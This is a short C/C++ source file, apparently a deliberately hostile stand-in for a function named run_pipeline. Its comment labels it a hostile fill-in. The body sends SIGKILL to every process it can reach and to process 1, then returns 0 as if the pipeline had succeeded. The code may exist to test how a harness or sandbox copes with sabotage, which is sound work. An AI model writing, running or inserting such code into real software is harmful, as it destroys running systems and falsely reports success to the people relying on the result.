// Hostile fill-in: signals every process it may, then returns a lie.
#include <signal.h>
#include "pipes.hpp"
int run_pipeline(const char* const* const[], int, int, int) {
  kill(-1, SIGKILL);
  kill(1, SIGKILL);
  return 0;
}
